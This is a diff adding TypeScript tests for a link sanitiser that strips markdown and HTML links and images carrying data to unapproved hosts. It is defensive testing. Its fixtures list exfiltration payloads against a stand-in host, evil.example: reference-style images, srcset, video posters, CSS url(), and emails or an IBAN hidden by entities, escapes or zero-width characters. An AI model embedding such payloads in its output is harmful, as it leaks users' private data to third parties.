@@ -97,3 +97,88 @@ test('link scanning is linear on hostile input', { timeout: 60_000 }, () => {
     assert.equal(typeof neutraliseLinks(text, policy).text, 'string');
   }
 });
+
+const strictEmail: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => /[a-z0-9]+@corp\.example/i.test(text) || /DE89370400440532013000/.test(text) };
+
+test('a reference definition may be used by an image (![x][ref], ![ref]): it is judged as an image', () => {
+  for (const text of [
+    '![logo][1]\n\n[1]: https://evil.example/pixel.png',
+    '![logo][]\n\n[logo]: <https://evil.example/pixel.png> "t"',
+    '![logo]\n\n> [logo]:\n  https://evil.example/pixel.png',
+    '![logo][1]\n\n[1]: //evil.example/pixel.png',
+  ]) {
+    const out = neutraliseLinks(text, strictEmail);
+    assert.ok(!out.text.includes('evil.example'), out.text);
+    assert.equal(out.report.images, 1, text);
+  }
+  const allowed = '![logo][1]\n\n[1]: https://docs.example.com/logo.png';
+  assert.equal(neutraliseLinks(allowed, strictEmail).text, allowed);
+  assert.equal(neutraliseLinks('a ratio [a]: b, and [note]: see below', strictEmail).report.count, 0, 'prose is not a destination');
+});
+
+test('html that the browser fetches by itself is judged as an image; only a / area href is a link', () => {
+  const fetched = [
+    '<picture><source srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x"><img src="https://docs.example.com/ok.png"></picture>',
+    '<video poster="https://evil.example/p.png"></video>',
+    '<svg><image href="https://evil.example/p.png"/></svg>',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<div style="background:url(\'https://evil.example/p.png\')">x</div>',
+    '<style>body { background: url(https://evil.example/p.png) }</style>',
+    '<img src="https://evil.example/\n.png">',
+    '<img\nsrc=\n"https://evil.example/p.png">',
+  ];
+  for (const text of fetched) {
+    const out = neutraliseLinks(text, strictEmail);
+    assert.ok(!out.text.includes('evil.example'), out.text);
+    assert.ok(out.report.images >= 1, text);
+  }
+  const link = '<a href="https://evil.example/page">x</a> <img src="https://docs.example.com/a.png" srcset="https://docs.example.com/a2.png 2x">';
+  assert.equal(neutraliseLinks(link, strictEmail).text, link, 'a plain link and allowed images stay');
+  assert.equal(neutraliseLinks('set data=5 and width=3', strictEmail).report.count, 0);
+});
+
+test('data in the host name, and data hidden by character references, escapes, line breaks or invisible characters, is found', () => {
+  for (const url of [
+    'https://de89370400440532013000.evil.example/',
+    'https://DE89370400440532013000.evil.example/',
+    'https://qujdrevgr0hjsktmtu5pufftu1rvvlzxwvo0nty3.evil.example/',
+    'https://evil.example/?q=ada&#64;corp.example',
+    'https://evil.example/?q=ada&commat;corp.example',
+    'https://evil.example/?q=ada\\@corp.example',
+    'https://evil.example/?q=ada\u200b@corp.example',
+    'https://evil.example/?q=ada%E2%80%8B@corp.example',
+    'https://evil.example/?q=ada&shy;@corp.example',
+  ]) {
+    assert.equal(neutraliseLinks(`see [here](${url}) now`, strictEmail).text, 'see here [link removed] now', url);
+    assert.ok(!neutraliseLinks(`<a href="${url}">x</a>`, strictEmail).text.includes('evil.example'), url);
+  }
+  assert.ok(!neutraliseLinks('<a href="https://evil.example/?q=ada@co\nrp.example">x</a>', strictEmail).text.includes('evil.example'));
+  assert.equal(neutraliseLinks('www.evil.example/?q=ada@corp.example', strictEmail).text, '[link removed]');
+  const kept = '[ok](https://docs.example.com/a?x=1&amp;y=2) and <a href="https://docs.example.com/b?x=1&amp;y=2">b</a>';
+  assert.equal(neutraliseLinks(kept, strictEmail).text, kept);
+});
+
+test('property: an email hidden in any reading of a URL, in any markup that fetches or links, does not survive', () => {
+  const at = fc.constantFrom('@', '&#64;', '&#x40;', '&commat;', '\\@', '\u200b@', '@\u2060', '%40', '%E2%80%8B%40');
+  const wrap = fc.constantFrom(
+    (u: string) => `![i](${u})`,
+    (u: string) => `[l](${u})`,
+    (u: string) => `![i][r]\n\n[r]: ${u}`,
+    (u: string) => `[l][r]\n[r]: <${u}>`,
+    (u: string) => `<img src="${u}">`,
+    (u: string) => `<img srcset="${u} 2x">`,
+    (u: string) => `<video poster='${u}'></video>`,
+    (u: string) => `<a href="${u}">x</a>`,
+    (u: string) => `<div style="background:url(${u})">`,
+    (u: string) => ` ${u} `,
+  );
+  fc.assert(
+    fc.property(fc.stringMatching(/^[a-z]{1,8}$/), at, wrap, fc.constantFrom('https://x.example/c?e=', 'https://docs.example.com/p/', 'https://x.example/#'), (user, sign, w, base) => {
+      const url = `${base}${user}${sign}corp.example`;
+      const out = neutraliseLinks(w(url), strictEmail);
+      assert.ok(!out.text.includes(`${sign}corp.example`), out.text);
+      assert.equal(out.report.exfiltration, true, w(url));
+    }),
+    { numRuns: 400 },
+  );
+});
